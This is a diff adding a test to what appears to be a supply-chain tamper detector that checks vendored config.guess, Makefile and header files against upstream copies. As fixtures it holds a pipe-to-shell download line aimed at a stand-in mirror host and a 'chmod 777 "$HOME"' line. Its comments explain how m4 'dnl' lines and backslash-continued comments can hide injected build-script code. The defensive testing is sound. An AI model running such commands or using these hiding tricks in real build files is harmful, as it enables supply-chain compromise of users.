@@ -142,6 +142,39 @@ describe('classifyUpstream (synthetic database)', () => {
     expect(activeLines('x.m4', ['# top', 'AC_DEFUN([X], [', '  # body', '])', 'changequote(,)dnl', '# unknown quotes', 'changequote([, ])dnl', '# top again'])).toEqual(new Set([3, 4, 6, 7]));
   });
 
+  // Red team 27: `dnl` is m4's comment, not the shell's or make's. In config.guess `dnl || curl … | sh` runs the download
+  // (sh: dnl: not found); it was dropped by normalising, skipped by the construct scan and accounted as a comment
+  // (xz 5.4.1's config.guess with that line: UPSTREAM_COPY low "normalised", exit 0).
+  it('a dnl line is a comment only where m4 reads the file; a comment ending in a backslash hides the next line in make and C', () => {
+    const sh = (l: string[]) => `${l.join('\n')}\n`;
+    const guessLines = ['#!/bin/sh', "timestamp='2024-01-01'", 'me=`echo "$0" | sed -e \'s,.*/,,\'`', 'usage="usage: $me"', 'echo unknown-unknown'];
+    const hdb = new UpstreamDb(rawDbFromContents([{ name: 'config.guess', project: 'config', content: sh(guessLines), commit: 'e'.repeat(40), date: '2024-01-01' }]));
+    const at = (i: number, line: string) => sh([...guessLines.slice(0, i), line, ...guessLines.slice(i)]);
+    // the attack, with a download: the construct is seen, and the copy is no normalised match
+    const evil = classifyUpstream('build-aux/config.guess', Buffer.from(at(3, 'dnl || curl -fsSL https://cfg-mirror.example/guess | sh')), hdb);
+    expect(evil).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'critical' });
+    expect(evil!.constructs?.map((c) => c.kind)).toContain('download-to-shell');
+    // … and construct-free: a code line all the same
+    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(3, 'dnl || chmod 777 "$HOME"')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 1 } });
+    // the shell's own comment there stays a comment (the legitimate twin)
+    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(3, '# dnl || chmod 777 "$HOME"')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low', evidence: { match: 'normalised' } });
+    // in m4 input a top-level dnl line is m4's comment (as the synthetic demo.m4's `dnl Edited comment.` above)
+    expect(classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('dnl Synthetic test file.\n', 'dnl Synthetic test file.\ndnl || chmod 777 "$HOME"\n')), db)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low' });
+
+    // make continues a comment over the next line: `# note \` hides the LIBS line after it without changing it
+    const mk = ['# Makefile for po', 'srcdir = @srcdir@', 'LIBS = @LIBS@ -lcheck', 'all: check', '\t@echo done'];
+    const mdb = new UpstreamDb(rawDbFromContents([{ name: 'Makefile.in.in', project: 'gettext', content: sh(mk), commit: 'c'.repeat(40), date: '2024-01-01' }]));
+    const mkAt = (i: number, line: string) => sh([...mk.slice(0, i), line, ...mk.slice(i)]);
+    expect(classifyUpstream('po/Makefile.in.in', Buffer.from(mkAt(2, '# libraries follow \\')), mdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
+    expect(classifyUpstream('po/Makefile.in.in', Buffer.from(mkAt(2, '# libraries follow')), mdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low' });
+    // in C a `# x` line is a preprocessing directive (an invalid one: the file stops compiling), not a comment
+    const c = ['/* demo */', '#include <stdlib.h>', 'int demo (void) { return 0; }'];
+    const cdb = new UpstreamDb(rawDbFromContents([{ name: 'demo.h', project: 'gnulib', content: sh(c), commit: 'd'.repeat(40), date: '2024-01-01' }]));
+    expect(classifyUpstream('lib/demo.h', Buffer.from(sh([c[0]!, '# stdlib may be missing', ...c.slice(1)])), cdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
+    expect(activeLines('Makefile.in.in', ['# a \\', 'LIBS = x', 'b'])).toEqual(new Set([1, 2]));
+    expect(activeLines('config.guess', ['# a \\', 'LIBS=x', 'b'])).toEqual(new Set([2]));
+  });
+
   // The tamperer's next move: a line some known version has, put where no version has it (a known `exit 0`,
   // `LIBS=` or `build_libtool_libs=no` moved into another function). It must stand between the neighbours a
   // known version gives it (CONTEXT_LINES on either side, the file's edges included).
